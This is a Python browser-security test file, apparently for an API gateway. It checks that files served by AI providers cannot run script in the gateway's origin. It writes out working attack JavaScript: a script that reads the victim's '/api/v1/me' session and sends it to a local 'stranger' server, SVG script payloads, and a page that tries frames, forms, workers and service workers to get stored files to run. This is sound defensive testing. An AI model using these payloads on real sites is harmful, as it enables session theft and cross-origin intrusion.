"""What a provider answers is never a document of our origin: tried with a real browser.

A stranger has uploaded pages, pictures and scripts to the provider and holds a gateway key; the victim is logged in.
The victim's browser opens the stranger's page, and our own origin is made to embed the answers. Each of them, where it
runs, reads `/api/v1/me` and tells the stranger. Nothing may reach the stranger but that the attacks were made.
"""

from __future__ import annotations

import contextlib
import http.server
import json
import socket
import threading
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import unquote, urlsplit

import pytest

from gatehouse.http.exchange import Exchange
from tests.browser import chromium
from tests.fakes.server import Answer, Fake, Seen
from tests.pipeline.house import House, house, pointing_at
from tests.pipeline.tenancy import Tenancy

pytestmark = chromium.needed
SECRET = "the-victims-session-6620"
SECONDS = 20.0
FILES = ("page", "picture", "script", "error", "redirect", "moved", "sniffed", "form")


class Stranger:
    """The stranger's web server: hands out pages, and notes what it is told at `/told?…`."""

    def __init__(self) -> None:
        stranger = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                stranger.answer(self)

            def do_POST(self) -> None:
                stranger.answer(self)

            def log_message(self, format: str, *args: object) -> None:
                pass

        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._thread = threading.Thread(target=self._server.serve_forever, args=(0.05,), daemon=True)
        self.told: list[str] = []
        self.done = threading.Event()
        self.page = b""

    @property
    def port(self) -> int:
        return int(self._server.server_address[1])

    def answer(self, request: http.server.BaseHTTPRequestHandler) -> None:
        address = urlsplit(request.path)
        if address.path == "/told":
            self.told.append(unquote(address.query))
            if address.query == "done":
                self.done.set()
        request.send_response(200)
        request.send_header("content-type", "text/html")
        request.send_header("access-control-allow-origin", "*")
        request.end_headers()
        request.wfile.write(self.page if address.path == "/" else b"")

    @contextlib.contextmanager
    def serving(self) -> Iterator[Stranger]:
        self._thread.start()
        try:
            yield self
        finally:
            self._server.shutdown()
            self._thread.join(5)
            self._server.server_close()


class Console:
    """Our own origin's management plane: who the victim is, and pages that embed what they are given."""

    def __init__(self) -> None:
        self.pages: dict[str, bytes] = {}

    def serve(self, exchange: Exchange, path: str) -> None:
        body, kind = self.pages.get(path, b""), b"text/html"
        if path.startswith("/api/v1/"):
            body, kind = json.dumps({"session": SECRET}).encode(), b"application/json"
        exchange.start(200, b"content-type: %b\r\n" % kind, len(body))
        exchange.write(body)
        exchange.end()


def theft(stranger: int, how: str) -> str:
    """A script that reads what it can of our origin, and tells."""
    return (
        f"(async () => {{ const tell = word => fetch('http://localhost:{stranger}/told?{how}:' + "
        "encodeURIComponent(word), {mode: 'no-cors'}); tell('ran in ' + self.origin);"
        "try { tell(await (await fetch('/api/v1/me', {credentials: 'include'})).text()) } catch (e) {} "
        "try { tell(await (await fetch('/api/v1/traces')).text()) } catch (e) {} })();"
    )


class Provider:
    """Answers with what the stranger has stored there, by the file's id."""

    def __init__(self) -> None:
        self.stranger = 0

    def answer(self, seen: Seen, status: int | None) -> Answer:
        script = theft(self.stranger, "provider")
        page = f"<!doctype html><html><body><script>{script}</script></body></html>".encode()
        picture = f'<svg xmlns="http://www.w3.org/2000/svg"><script>{script}</script></svg>'.encode()
        kind = next((name for name in FILES if name in seen.path), "page")
        html = (("content-type", "text/html; charset=utf-8"), ("service-worker-allowed", "/"), ("set-cookie", "a=b"))
        match kind:
            case "picture":
                return Answer(headers=(("content-type", "image/svg+xml"),), body=picture)
            case "script":
                return Answer(headers=(("content-type", "text/javascript"), *html[1:]), body=script.encode())
            case "error":
                return Answer(500, html, page)
            case "redirect":
                return Answer(302, (("location", f"http://localhost:{self.stranger}/told?followed"),), b"")
            case "moved":
                return Answer(302, (("location", "/api/v1/me"), ("refresh", "0; url=/api/v1/me"), *html), page)
            case "sniffed":
                return Answer(headers=(), body=page)
        return Answer(
            headers=(*html, ("content-disposition", "inline"), ("access-control-allow-origin", "*")), body=page
        )


def attacks(base: str, key: str, stranger: int) -> bytes:
    """A page that embeds, fetches, posts to and registers each stored file below `base`, then says so."""
    paths = [f"/openai/v1/files/{name}/content?key={key}" for name in FILES]
    paths += [f"/google/v1beta/files/{name}:download?alt=media&key={key}" for name in FILES]
    paths += [f"/v1/files/page/content?key={key}", f"/anthropic/v1/files/page/content?key={key}"]
    return f"""<!doctype html><html><body><script>
const urls = {json.dumps([base + path for path in paths])};
const tell = word => fetch('http://localhost:{stranger}/told?' + encodeURIComponent(word), {{mode: 'no-cors'}});
const within = (promise, ms) => Promise.race([promise, new Promise(done => setTimeout(done, ms))]);
const loaded = element => new Promise(done => {{ element.onload = element.onerror = done }});
const put = (name, where, url) => {{
  const element = document.createElement(name);
  const ends = loaded(element);
  element[where] = url;
  document.body.append(element);
  return ends;
}};
(async () => {{
  const waits = [];
  urls.forEach((url, n) => {{
    for (const [name, where] of [['iframe', 'src'], ['img', 'src'], ['object', 'data'], ['embed', 'src']])
      waits.push(put(name, where, url));
    const frame = document.createElement('iframe');
    frame.name = 'form' + n;
    document.body.append(frame);
    for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {{
      const form = document.createElement('form');
      Object.assign(form, {{action: url, method: 'post', enctype: type, target: frame.name}});
      document.body.append(form);
      form.submit();
    }}
    for (const mode of ['cors', 'no-cors', 'same-origin'])
      waits.push(fetch(url, {{mode, credentials: 'include'}}).catch(() => 0));
    waits.push(fetch(url).then(answer => answer.text()).then(text => {{
      const inner = document.createElement('iframe');
      inner.srcdoc = OURS ? '' : text;
      document.body.append(inner);
    }}).catch(() => 0));
    if (navigator.serviceWorker)
      waits.push(navigator.serviceWorker.register(url).then(() => tell('registered ' + url)).catch(() => 0));
    try {{ new Worker(url) }} catch (e) {{}}
    try {{ new SharedWorker(url) }} catch (e) {{}}
    if (OURS) {{
      waits.push(put('script', 'src', url));
      waits.push(import(url).catch(() => 0));
    }}
  }});
  await within(Promise.all(waits), 4000);
  await new Promise(done => setTimeout(done, 700));
  tell('done');
}})();
</script></body></html>""".encode()


class Scene:
    """The victim's side and the stranger's, and a browser that goes to an address of either."""

    def __init__(self, house: House, console: Console, stranger: Stranger, key: str, profile: Path) -> None:
        self.house = house
        self.console = console
        self.stranger = stranger
        self.key = key
        self._profile = profile

    def visit(self, url: str, seconds: float = SECONDS) -> list[str]:
        """What the stranger was told by the time the page there says it is done."""
        with chromium.opened(url, self._profile):
            assert self.stranger.done.wait(seconds), f"the page did not end; told so far: {self.stranger.told}"
        return [told for told in self.stranger.told if told != "done"]


@pytest.fixture
def scene(tmp_path: Path) -> Iterator[Scene]:
    provider, console = Provider(), Console()
    with Fake(provider.answer, gzip_policy="never").serving() as fake, Stranger().serving() as stranger:
        provider.stranger = stranger.port
        tenancy = Tenancy(tmp_path / "data")
        for name in ("openai", "google", "anthropic"):
            tenancy.credential(name, fake.url, f"sk-stored-{name}")
        key = tenancy.key().text
        settings = pointing_at(fake.url)
        with house(settings, tenancy.sections, tenancy.unsealer(), management=console) as running:
            yield Scene(running, console, stranger, key, tmp_path / "profile")


def test_the_theft_works_where_a_page_is_ours(scene: Scene) -> None:
    """Or the tests below would prove nothing."""
    port = scene.stranger.port
    script = theft(port, "own") + f"setTimeout(() => fetch('http://localhost:{port}/told?done'), 700)"
    scene.console.pages["/ui/own"] = f"<!doctype html><script>{script}</script>".encode()
    told = scene.visit(scene.house.url + "/ui/own")
    assert any(SECRET in word for word in told), told


@pytest.mark.parametrize("host", ["localhost", "127.0.0.1"])
def test_a_strangers_page_runs_nothing_in_our_origin(scene: Scene, host: str) -> None:
    """From another site, and from another port of the same one."""
    page = attacks(scene.house.url, scene.key, scene.stranger.port)
    scene.stranger.page = page.replace(b"OURS", b"false")
    told = scene.visit(f"http://{host}:{scene.stranger.port}/")
    assert not [word for word in told if SECRET in word or scene.house.url in word or "registered" in word], told
    assert len(scene.house.journal.refusals) > 15 * len(FILES), "the attacks were made"


def test_nor_do_the_answers_embedded_in_a_page_of_ours(scene: Scene) -> None:
    """As a frame, a picture, a form's answer, a script, a module, a worker, a service worker."""
    page = attacks("", scene.key, scene.stranger.port)
    scene.console.pages["/ui/embeds"] = page.replace(b"OURS", b"true")
    assert scene.visit(scene.house.url + "/ui/embeds") == []
    assert len(scene.house.journal.refusals) > 15 * len(FILES), "the attacks were made"


@pytest.mark.parametrize("name", ["page", "picture", "error", "moved", "sniffed"])
def test_nor_in_a_browser_that_does_not_say_what_it_does(scene: Scene, name: str) -> None:
    """Without `Sec-Fetch-*` the answer arrives as a document; its sandbox keeps it from running and reading."""
    with _without_fetch_metadata(scene.house.port) as port:
        path = f"/openai/v1/files/{name}/content?key={scene.key}"
        watcher = (
            f"setTimeout(() => fetch('http://localhost:{scene.stranger.port}/told?done', {{mode: 'no-cors'}}), 900)"
        )
        frame = f'<iframe src="{path}"></iframe>'
        scene.console.pages["/ui/old"] = f"<!doctype html><body>{frame}<script>{watcher}</script>".encode()
        assert scene.visit(f"http://127.0.0.1:{port}/ui/old") == []
    assert scene.house.journal.decisions, "the answer did arrive"


@contextlib.contextmanager
def _without_fetch_metadata(target: int) -> Iterator[int]:
    """A door to the gateway that takes `Sec-Fetch-*` lines out of each request, and closes after each answer."""
    listener = socket.create_server(("127.0.0.1", 0))
    ended = threading.Event()

    def serve(client: socket.socket) -> None:
        with client, socket.create_connection(("127.0.0.1", target), timeout=5) as house:
            client.settimeout(5)
            head = b""
            with contextlib.suppress(OSError):
                while b"\r\n\r\n" not in head and (piece := client.recv(65_536)):
                    head += piece
                lines = [
                    line for line in head.split(b"\r\n") if not line.lower().startswith((b"sec-fetch", b"connection"))
                ]
                house.sendall(lines[0] + b"\r\nconnection: close\r\n" + b"\r\n".join(lines[1:]))
                while piece := house.recv(65_536):
                    client.sendall(piece)

    def accept() -> None:
        listener.settimeout(0.1)
        while not ended.is_set():
            with contextlib.suppress(TimeoutError):
                threading.Thread(target=serve, args=(listener.accept()[0],), daemon=True).start()

    door = threading.Thread(target=accept, daemon=True)
    door.start()
    try:
        yield listener.getsockname()[1]
    finally:
        ended.set()
        door.join(5)
        listener.close()
